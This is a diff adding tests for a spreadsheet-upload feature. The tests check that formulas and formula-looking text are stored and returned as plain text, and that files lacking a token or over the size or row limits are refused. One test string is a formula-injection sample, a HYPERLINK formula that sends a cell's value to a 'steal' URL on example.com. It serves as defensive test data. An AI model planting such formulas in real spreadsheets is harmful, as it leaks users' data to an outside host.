@@ -3,7 +3,13 @@ import supertest from 'supertest';
 import { pathTo, paths } from '../../src/paths.js';
 import { ANSWERS_SHEET, NOT_APPLICABLE_LABEL, TOKEN_SHEET } from '../../src/returns/workbook-file.js';
 import { verifyWorkbookToken } from '../../src/returns/workbook-token.js';
-import { buildTestApp, csrfTokenFrom, signedInAgent, TEST_SESSION_SECRET } from '../support/app.js';
+import {
+  buildTestApp,
+  csrfTokenFrom,
+  signedInAgent,
+  TEST_SESSION_SECRET,
+  testConfig,
+} from '../support/app.js';
 import { pdfFile } from '../support/evidence-files.js';
 import { hasSharedStrings } from '../support/register-files.js';
 import { createTestDatabase, type TestDatabase } from '../support/database.js';
@@ -453,5 +459,92 @@ test('only the provider’s own people upload: staff and other providers are ref
       .attach('file', content, 'my return.xlsx')
       .expect(status);
   }
+  expect(await writes(returnA.id)).toEqual(before);
+});
+
+test('a workbook as a spreadsheet program saves it is read: shared strings, rich text, a date as a serial number; formulas stay text', async () => {
+  const { returnA } = await freshReturns(db.prisma, world);
+  const lead = await signedInAgent(app, world.leadA.id);
+  const requirements = await requirementsInOrder(db.prisma, world.ais.id);
+  const [first, , third, fourth] = requirements;
+  const level = first?.ratingScale.levels[1];
+  if (!first || !third || !fourth || !level) throw new Error('AIS 2025 has too few requirements');
+  const formulaText = '=HYPERLINK("https://example.com/steal?x="&A1,"Click me")';
+  const content = await filledIn(lead, returnA.id, (sheet) => {
+    // Part of the rating made bold: saved as rich text, read as its plain text.
+    sheet.getCell('D2').value = {
+      richText: [{ text: level.label.slice(0, 3) }, { font: { bold: true }, text: level.label.slice(3) }],
+    };
+    // Text that looks like a formula, typed with a leading apostrophe: saved as text.
+    sheet.getCell('F2').value = formulaText;
+    // A real formula: its text is kept, never its result, and never worked out.
+    sheet.getCell('F4').value = { formula: 'CONCAT("We ","check")', result: 'We check' };
+    // A narrative a spreadsheet program turned into a date: a serial number with a date format.
+    sheet.getCell('F5').value = new Date(Date.UTC(2026, 3, 1));
+    sheet.getCell('F5').numFmt = 'dd/mm/yyyy';
+  });
+  expect(hasSharedStrings(content)).toBe(true);
+  // An XLSX has no date type exceljs writes: a date is its serial number with a date format.
+  const saved = (await workbookOf(content)).getWorksheet(ANSWERS_SHEET)?.getCell('F5');
+  expect(saved?.type).toBe(ExcelJS.ValueType.Date);
+  expect(saved?.numFmt).toBe('dd/mm/yyyy');
+
+  expect((await uploadTo(lead, returnA.id, content)).status).toBe(302);
+  const { response } = await confirmPreview(lead, returnA.id);
+  expect(response.status).toBe(302);
+  const answers = await answersOf(returnA.id);
+  expect(answers.get(first.code)).toMatchObject({
+    ratingLevel: { code: level.code },
+    narrative: formulaText,
+  });
+  expect(answers.get(third.code)?.narrative).toBe('=CONCAT("We ","check")');
+  expect(answers.get(fourth.code)?.narrative).toBe('2026-04-01');
+
+  // Downloaded again, the formula-looking narratives are text cells, never formulas.
+  const again = await workbookOf((await download(lead, returnA.id).expect(200)).body as Buffer);
+  const sheet = again.getWorksheet(ANSWERS_SHEET);
+  for (const address of ['F2', 'F4']) {
+    expect(sheet?.getCell(address).type).toBe(ExcelJS.ValueType.String);
+    expect(sheet?.getCell(address).formula).toBeUndefined();
+  }
+  expect(sheet?.getCell('F2').text).toBe(formulaText);
+});
+
+test('a workbook with no token, one over the size limit and one with more rows than allowed are refused, writing nothing', async () => {
+  const { returnA } = await freshReturns(db.prisma, world);
+  const lead = await signedInAgent(app, world.leadA.id);
+  const requirements = await requirementsInOrder(db.prisma, world.ais.id);
+  const before = await writes(returnA.id);
+
+  const noToken = await filledIn(lead, returnA.id, (sheet, workbook) => {
+    sheet.getCell('F2').value = 'No token';
+    const tokenSheet = workbook.getWorksheet(TOKEN_SHEET);
+    if (!tokenSheet) throw new Error('no token sheet');
+    workbook.removeWorksheet(tokenSheet.id);
+  });
+  const refused = await uploadTo(lead, returnA.id, noToken);
+  expect(refused.status).toBe(400);
+  expect(refused.text).toContain('This workbook has no hidden sheet saying which return it is for');
+
+  const valid = await filledIn(lead, returnA.id, (sheet) => {
+    sheet.getCell('F2').value = 'Within the limits';
+  });
+  const small = buildTestApp(db, { config: testConfig({ IMPORT_MAX_BYTES: '2048' }) });
+  const tooLarge = await uploadTo(await signedInAgent(small, world.leadA.id), returnA.id, valid);
+  expect(tooLarge.status).toBe(413);
+  expect(tooLarge.text).toContain('The file must be smaller than 2 KB');
+
+  const few = buildTestApp(db, { config: testConfig({ IMPORT_MAX_ROWS: String(requirements.length) }) });
+  const fewAgent = await signedInAgent(few, world.leadA.id);
+  // As downloaded (one row per requirement) it is within the limit; one row more is not.
+  const extraRow = await filledIn(fewAgent, returnA.id, (sheet) => {
+    sheet.addRow(['X9', '', '', '', '', 'An extra row']);
+  });
+  const tooMany = await uploadTo(fewAgent, returnA.id, extraRow);
+  expect(tooMany.status).toBe(400);
+  expect(tooMany.text).toContain(
+    `The Answers sheet has more than ${String(requirements.length)} rows: a return has one row for each requirement`,
+  );
+  expect((await uploadTo(fewAgent, returnA.id, valid)).status).toBe(302);
   expect(await writes(returnA.id)).toEqual(before);
 });
